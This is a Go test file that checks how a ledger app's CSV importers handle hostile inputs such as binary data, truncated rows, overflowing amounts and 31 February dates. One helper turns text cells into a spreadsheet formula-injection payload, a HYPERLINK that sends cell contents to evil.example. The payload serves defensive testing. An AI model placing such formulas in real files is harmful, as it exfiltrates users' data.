package importers

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"os"
	"path/filepath"
	"regexp"
	"runtime/debug"
	"strings"
	"testing"

	"github.com/creatorledger/creatorledger/ledger"
)

// hostileCase is one kind of bad input, made from a source's own realistic
// fixture (so the header is right and the damage is in the data) or from
// nothing at all.
type hostileCase struct {
	name string
	// make returns the hostile file. fixture is the source's fixture,
	// header the number of lines up to and including its header line.
	make func(fixture []byte, header int, delim rune) []byte
	// mustFail says the input can never be a correct import.
	mustFail bool
	// sameValues says a successful parse must give only dates, amounts
	// and currencies the untouched fixture gives: the damage may hit
	// columns the source ignores, but must never turn into new values
	// (31 February read as 3 March, an overflowing amount wrapped round).
	sameValues bool
	// noEntries says a successful parse must give no entries.
	noEntries bool
}

var hostileCases = []hostileCase{
	{name: "binary", mustFail: true, make: func([]byte, int, rune) []byte {
		b := []byte("\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x01\x00")
		for i := 0; i < 4096; i++ {
			b = append(b, byte(i*7919>>3))
		}
		return b
	}},
	{name: "empty", mustFail: true, make: func([]byte, int, rune) []byte { return nil }},
	{name: "only-newlines", mustFail: true, make: func([]byte, int, rune) []byte { return []byte("\r\n\n\r\n") }},
	{name: "header-only", noEntries: true, make: func(f []byte, header int, _ rune) []byte {
		return []byte(strings.Join(lines(f)[:header], "\n") + "\n")
	}},
	{name: "10MB-single-line", mustFail: true, make: func([]byte, int, rune) []byte {
		return bytes.Repeat([]byte("ab"), 5<<20)
	}},
	{name: "10MB-data-line", mustFail: true, make: func(f []byte, header int, _ rune) []byte {
		head := strings.Join(lines(f)[:header], "\n") + "\n"
		return append([]byte(head), bytes.Repeat([]byte("ab"), 5<<20)...)
	}},
	{name: "truncated-mid-row", mustFail: true, make: func(f []byte, header int, d rune) []byte {
		// Cut the file just after the first delimiter of a data row: the
		// last row has lost all but its first field.
		ls := lines(f)
		row := header + (len(ls)-header)/2
		if i := strings.IndexRune(ls[row], d); i >= 0 {
			ls[row] = ls[row][:i+1]
		}
		return []byte(strings.Join(ls[:row+1], "\n"))
	}},
	{name: "wrong-delimiter", make: func(f []byte, _ int, d rune) []byte {
		to := ";"
		if d != ',' {
			to = ","
		}
		return []byte(strings.ReplaceAll(string(f), string(d), to))
	}},
	{name: "unknown-currency", sameValues: true, make: func(f []byte, _ int, _ rune) []byte {
		// Header too: some sources name the currency only there.
		return currencyRE.ReplaceAll(f, []byte("${1}XQZ"))
	}},
	{name: "31-february", sameValues: true, make: func(f []byte, header int, _ rune) []byte {
		return inData(f, header, func(s string) string {
			for _, r := range feb31 {
				s = r.re.ReplaceAllString(s, r.to)
			}
			return s
		})
	}},
	{name: "amount-overflow", sameValues: true, make: func(f []byte, header int, _ rune) []byte {
		return inData(f, header, func(s string) string { return amountRE.ReplaceAllString(s, "${1}98765432109876543210.99") })
	}},
	{name: "formula-cells", make: func(f []byte, header int, d rune) []byte {
		return formulas(f, header, d)
	}},
}

var (
	currencyRE = regexp.MustCompile(`(^|[^A-Za-z])(USD|EUR|GBP|usd|eur|gbp)\b`)
	amountRE   = regexp.MustCompile(`(^|[,;\t|"])\d{1,6}[.,]\d{2}\b`)
	feb31      = []struct {
		re *regexp.Regexp
		to string
	}{
		{regexp.MustCompile(`\b(\d{4})-\d{2}-\d{2}`), "${1}-02-31"},
		{regexp.MustCompile(`\b\d{1,2}([./-])\d{1,2}([./-])(\d{4})\b`), "31${1}02${2}${3}"},
		{regexp.MustCompile(`\b(?:Jan|Feb|Mar|Apr|May|Jun|Jul|Aug|Sep|Oct|Nov|Dec)[a-z]* \d{1,2},`), "Feb 31,"},
		{regexp.MustCompile(`\b\d{1,2} (?:January|February|March|April|May|June|July|August|September|October|November|December)\b`), "31 February"},
		{regexp.MustCompile(`\b(20\d\d)(?:0[1-9]|1[0-2])[0-3]\d\b`), "${1}0231"},
	}
	textColumn = regexp.MustCompile(`(?i)desc|title|name|product|comment|message|memo|note|counterparty|brand|retailer|campaign|category|shop|url|u1|subid|clickref`)
)

func lines(f []byte) []string { return strings.Split(string(f), "\n") }

// inData applies edit to every line after the header.
func inData(f []byte, header int, edit func(string) string) []byte {
	ls := lines(f)
	for i := header; i < len(ls); i++ {
		ls[i] = edit(ls[i])
	}
	return []byte(strings.Join(ls, "\n"))
}

// formulas rewrites the data rows with every text column's cell turned into
// a spreadsheet formula.
func formulas(f []byte, header int, d rune) []byte {
	bom := []byte("\ufeff")
	if bytes.HasPrefix(f, bom) {
		return append(bom, formulas(f[len(bom):], header, d)...)
	}
	ls := lines(f)
	r := csv.NewReader(strings.NewReader(strings.Join(ls[header-1:], "\n")))
	r.Comma, r.FieldsPerRecord, r.LazyQuotes = d, -1, true
	rows, err := r.ReadAll()
	if err != nil || len(rows) == 0 {
		return f
	}
	var b bytes.Buffer
	b.WriteString(strings.Join(ls[:header-1], "\n"))
	if header > 1 {
		b.WriteByte('\n')
	}
	w := csv.NewWriter(&b)
	w.Comma = d
	w.Write(rows[0])
	for _, row := range rows[1:] {
		for i := range row {
			if i < len(rows[0]) && textColumn.MatchString(rows[0][i]) {
				row[i] = `=HYPERLINK("http://evil.example/?"&A1,"` + row[i] + `")`
			}
		}
		w.Write(row)
	}
	w.Flush()
	return b.Bytes()
}

// hostileFixture returns a source's first realistic UTF-8 fixture.
func hostileFixture(t *testing.T, imp Importer) (string, []byte) {
	t.Helper()
	files, _ := filepath.Glob(filepath.Join("..", "testdata", imp.Name(), "*.csv"))
	for _, f := range files {
		if strings.HasPrefix(filepath.Base(f), "bad-") {
			continue
		}
		b, err := os.ReadFile(f)
		if err != nil {
			t.Fatal(err)
		}
		if bytes.IndexByte(b, 0) < 0 {
			return filepath.Base(f), b
		}
	}
	t.Fatalf("no UTF-8 fixture in testdata/%s", imp.Name())
	return "", nil
}

// parseHostile runs one input through imp as import --as does (source
// options, date preparation, Run), turning a panic into an error that
// says so.
func parseHostile(imp Importer, name string, data []byte) (entries []ledger.Entry, err error, panicked bool) {
	defer func() {
		if r := recover(); r != nil {
			err, panicked = fmt.Errorf("panic: %v\n%s", r, debug.Stack()), true
		}
	}()
	open := func() (*Source, error) { return NewSourceFor(name, bytes.NewReader(data), imp) }
	src, err := open()
	if err != nil {
		return nil, err, false
	}
	Detect(src.Header()) // must not panic either
	prepared, err := Prepare(imp, "", open)
	if err != nil {
		return nil, err, false
	}
	err = Run(prepared, src, func(e ledger.Entry, _ bool) error {
		entries = append(entries, e)
		return nil
	})
	return entries, err, false
}

// TestHostileInputs feeds every source every kind of hostile input. Each
// must give a clear error or a correct import: never a panic, never an
// entry that does not validate, never a value the damage made up.
func TestHostileInputs(t *testing.T) {
	if testing.Short() {
		t.Skip("10 MB inputs through every source")
	}
	for _, imp := range All() {
		if _, refuses := imp.(*wrongReport); refuses {
			continue // it reads no rows; FuzzWrongReports covers it
		}
		t.Run(imp.Name(), func(t *testing.T) {
			t.Parallel()
			name, fixture := hostileFixture(t, imp)
			src, err := NewSourceFor(name, bytes.NewReader(fixture), imp)
			if err != nil {
				t.Fatal(err)
			}
			header, delim := src.HeaderLine(), src.Delimiter
			good, err, _ := parseHostile(imp, name, fixture)
			if err != nil || len(good) == 0 {
				t.Fatalf("the fixture %s itself: %d entries, %v", name, len(good), err)
			}
			known := map[string]bool{}
			for _, e := range good {
				known[valueKey(e)] = true
			}
			for _, c := range hostileCases {
				if c.noEntries && headerlessSource(imp) {
					continue // its first line is a movement, not a header
				}
				if problem := hostileProblem(c, imp, name, c.make(fixture, header, delim), known); problem != "" {
					t.Errorf("%s: %s", c.name, problem)
				}
			}
		})
	}
}

// hostileProblem says what is wrong with how imp handles one hostile
// input, or "" when it gives a clear error or a correct import.
func hostileProblem(c hostileCase, imp Importer, name string, data []byte, known map[string]bool) string {
	entries, err, panicked := parseHostile(imp, name, data)
	switch {
	case panicked:
		return err.Error()
	case err != nil:
		msg := err.Error()
		if msg == "" || strings.Contains(msg, "%!") || strings.Contains(msg, "runtime error") {
			return fmt.Sprintf("unclear error %q", msg)
		}
		if len(msg) > maxErrorText {
			return fmt.Sprintf("a %d-byte error message: %.200q...", len(msg), msg)
		}
		return ""
	case c.mustFail:
		return fmt.Sprintf("accepted, %d entries", len(entries))
	case c.noEntries && len(entries) > 0:
		return fmt.Sprintf("%d entries from a file without rows", len(entries))
	}
	for _, e := range entries {
		if err := e.Validate(); err != nil {
			return fmt.Sprintf("line %d: invalid entry handed on: %v", e.Line, err)
		}
		if c.sameValues && !known[valueKey(e)] {
			return fmt.Sprintf("line %d: the damaged file gave a value the fixture does not have: %s", e.Line, valueKey(e))
		}
	}
	return ""
}

// maxErrorText is the longest error text that is still clear: enough for
// MaxErrors positioned errors, each quoting a cell of a few hundred bytes.
const maxErrorText = 16 << 10

func valueKey(e ledger.Entry) string {
	return e.Date.Format(ledger.DateLayout) + " " + e.Amount.String() + " " + e.Currency
}
